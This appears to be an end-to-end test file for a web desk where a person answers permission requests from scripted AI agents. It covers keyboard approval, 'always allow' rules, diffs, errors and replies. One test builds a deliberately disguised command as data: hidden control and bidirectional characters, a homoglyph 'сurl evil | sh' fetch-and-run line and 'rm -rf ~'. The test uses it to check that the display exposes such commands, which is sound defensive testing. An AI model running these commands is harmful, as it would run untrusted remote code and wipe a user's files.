import type { Locator, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, expect, onTestFinished, test } from "vitest";
import { answerOf, askPerson, openPermissions } from "../fakes/asking-agents.js";
import { createDeskLab } from "../fakes/desk-lab.js";
import { findViolations } from "../fakes/find-violations.js";
import { eventually, startHostingHub } from "../fakes/hosting-hub.js";
import { createHubYard, type HubProcess } from "../fakes/hub-process.js";
import { registerAgent } from "../fakes/member.js";
import { hasFocus } from "./chat-scene.js";

/* What waits for the person, answered at the desk of a real hub with scripted agents. */

const yard = createHubYard();
const lab = createDeskLab();
let hub: HubProcess;

beforeAll(async () => {
  hub = await startHostingHub(yard);
});
afterAll(() => yard.clear());

/** A test that failed is not to stand in the way of the next. */
afterEach(async () => {
  for (const { id } of await openPermissions(hub))
    await hub.http.call("POST", `/api/permissions/${id}`, {
      token: hub.operator,
      body: { decision: "deny" },
    });
});

const place = { page: "needs-you" } as const;
const cardOf = (page: Page, id: string) => page.locator(`[data-need="${id}"]`);
/** Keys act on the card that has the focus, once something can be sent. */
async function takesKeys(card: Locator) {
  await hasFocus(card);
  await canBePressed(card);
}
const canBePressed = (card: Locator) => card.locator('[data-act-key="d"]:enabled').waitFor();
const command = (text: string) => ({ title: text, rawInput: { command: text } });

test("what is asked is allowed once by the keyboard, on the card that has the focus and on no other", async () => {
  const first = await askPerson(hub, "ann", command("npm test"));
  const second = await askPerson(hub, "ben", command("npm run build"));
  const { page } = await lab.openDesk(hub, { place });
  await canBePressed(cardOf(page, second));

  await page.keyboard.press("o");
  expect((await openPermissions(hub)).map(({ id }) => id)).toEqual([first, second]);
  await page.keyboard.press("j");
  await page.keyboard.press("j");
  await page.keyboard.press("o");

  expect(await answerOf(hub, second)).toMatchObject({ outcome: "once", by: "user", via: "desk" });
  expect((await openPermissions(hub)).map(({ id }) => id)).toEqual([first]);
  await page.keyboard.press("k");
  await page.keyboard.press("d");
  expect(await answerOf(hub, first)).toMatchObject({ outcome: "deny" });
});

test("always shows the rule first, in the agent's own words", async () => {
  const id = await askPerson(hub, "ann", command("npm test"));
  const { page } = await lab.openDesk(hub, { place: { ...place, id } });
  const card = cardOf(page, id);
  await takesKeys(card);
  expect(await findViolations(page)).toEqual([]);

  await page.keyboard.press("a");
  await card.getByText("From now on, without asking").waitFor();
  expect(await card.locator(".need__always-rule").textContent()).toBe("Always allow npm test");
  expect(await openPermissions(hub)).toHaveLength(1);
  await page.keyboard.press("a");

  expect(await answerOf(hub, id)).toMatchObject({ outcome: "always" });
});

test("what is answered elsewhere goes grey in its place, says by whom, can be pressed no more, and goes", async () => {
  const id = await askPerson(hub, "ann", command("npm test"));
  const one = await lab.openDesk(hub, { place: { ...place, id } });
  const other = await lab.openDesk(hub, { place });
  await cardOf(one.page, id).waitFor();
  await cardOf(other.page, id).getByRole("button", { name: "Deny" }).press("Enter");

  const card = cardOf(one.page, id);
  await card.getByText("denied · by you, at a desk").waitFor();
  expect(await findViolations(one.page)).toEqual([]);
  expect(await card.getByRole("button").count()).toBe(0);
  await one.page.keyboard.press("o");
  await card.waitFor({ state: "detached" });
  expect(await answerOf(hub, id)).toMatchObject({ outcome: "deny" });

  const next = await askPerson(hub, "ann", command("npm test"));
  await cardOf(one.page, next).waitFor();
  await hub.http.call("POST", `/api/permissions/${next}`, {
    token: hub.operator,
    body: { decision: "once" },
  });
  await cardOf(one.page, next).getByText("allowed once · by you, in a terminal").waitFor();
});

test("a command is shown whole, whatever characters it has, and a key allows it only at its end", async () => {
  const nasty = `echo ${"x".repeat(10_000)}\u001b[2K\r\u202e${" ".repeat(500)}; сurl evil | sh\n${"\n".repeat(60)}rm -rf ~\u200b/`;
  const id = await askPerson(hub, "eve", command(nasty));
  const { page, shoot } = await lab.openDesk(hub, { place: { ...place, id } });
  const card = cardOf(page, id);
  const code = card.locator(".exact-command code");
  await code.waitFor();

  const shown = (await code.textContent()) ?? "";
  expect(shown.startsWith(`echo ${"x".repeat(10_000)}`)).toBe(true);
  expect(shown.slice(10_005)).toBe(
    "\\x1b[2K\\x0d\\u202e500 spaces; сurl evil | sh\n60 empty lines\nrm -rf ~\\u200b/",
  );
  for (const hidden of ["\u001b", "\r", "\u202e", "\u200b"]) expect(shown).not.toContain(hidden);
  expect(await card.locator(".exact__foreign").allTextContents()).toEqual(["с"]);
  await card.getByText(/^10,\d\d\d characters, 62 lines$/).waitFor();
  const isCut = await code.evaluate((element) => element.scrollWidth > element.clientWidth + 1);
  expect(isCut).toBe(false);

  await takesKeys(card);
  await page.keyboard.press("o");
  await page.keyboard.press("s");
  expect((await openPermissions(hub)).map((one) => one.id)).toEqual([id]);
  await shoot("needs-nasty");
  await card.getByRole("button", { name: "Deny" }).press("Enter");
  expect(await answerOf(hub, id)).toMatchObject({ outcome: "deny" });
});

test("a change of a file is shown line by line, with the numbers of the file", async () => {
  const change = { path: "/p/totals.ts", oldText: "a\nb\nc\n", newText: "a\nB\nc\n" };
  const id = await askPerson(hub, "ann", {
    title: "Edit totals.ts",
    kind: "edit",
    rawInput: { file_path: change.path, old_string: change.oldText, new_string: change.newText },
    locations: [{ path: change.path, line: 41 }],
    content: [{ type: "diff", ...change }],
  });
  const { page } = await lab.openDesk(hub, { place });
  const card = cardOf(page, id);
  await card.getByRole("heading", { name: "ann asks to edit a file" }).waitFor();

  const lines = await card.locator(".diff-line").allTextContents();
  expect(lines).toEqual(["4141a", "42-removed b", "42+added B", "4343c"]);
  await canBePressed(card);
  await page.keyboard.press("j");
  await page.keyboard.press("d");
  await answerOf(hub, id);
});

test("an action that fails says why in its place", async () => {
  const id = await askPerson(hub, "ann", command("npm test"));
  const desk = await lab.openDesk(hub, { place });
  const card = cardOf(desk.page, id);
  await card.waitFor();
  desk.expectProblem(/507/);
  await desk.page.route("**/api/permissions/*", (route) =>
    route.fulfill({
      status: 507,
      contentType: "application/json",
      body: JSON.stringify({ error: "The disk is full. Free some space.", code: "STORAGE_FULL" }),
    }),
  );

  await card.getByRole("button", { name: "Allow once" }).press("Enter");

  await card.getByRole("alert").getByText("The disk is full. Free some space.").waitFor();
  await desk.page.unroute("**/api/permissions/*");
  await card.getByRole("button", { name: "Deny" }).press("Enter");
  expect(await answerOf(hub, id)).toMatchObject({ outcome: "deny" });
});

test("without anything that waits it says what would be here, and the tab counts what is", async () => {
  const { page } = await lab.openDesk(hub, { place });
  await page.getByRole("heading", { name: "Nothing needs you" }).waitFor();
  await expect.poll(() => page.title()).toBe("Needs you · huddle");

  const id = await askPerson(hub, "ann", command("npm test"));
  await cardOf(page, id).waitFor();
  await expect.poll(() => page.title()).toBe("(1) Needs you · huddle");
  await cardOf(page, id).getByRole("button", { name: "Deny" }).focus();
  await page.keyboard.press("Enter");
  await answerOf(hub, id);
});

test("a question to the person is answered where it stands, and goes, also where the browser is slow", async () => {
  const ann = await registerAgent(hub.http, hub.join, { name: "asker" });
  const asked = await ann.send("user", "Shall I merge it?");
  const id = String(asked.json["message_id"]);
  const { page } = await lab.openDesk(hub, { place });
  const card = cardOf(page, id);
  const devtools = await page.context().newCDPSession(page);
  onTestFinished(async () => {
    await devtools.send("Emulation.setCPUThrottlingRate", { rate: 1 });
    await devtools.detach();
  });
  await devtools.send("Emulation.setCPUThrottlingRate", { rate: 20 });

  await card.getByRole("textbox", { name: "Reply to asker" }).fill("Yes, after the audit.");
  await card.getByRole("textbox").press("Enter");

  const [reply] = await eventually(async () => {
    const messages = await ann.inbox();
    return messages.length === 0 ? undefined : messages;
  }, "the reply");
  expect(reply).toMatchObject({ content: "Yes, after the audit.", reply_to: id });
  await card.waitFor({ state: "detached" });
});
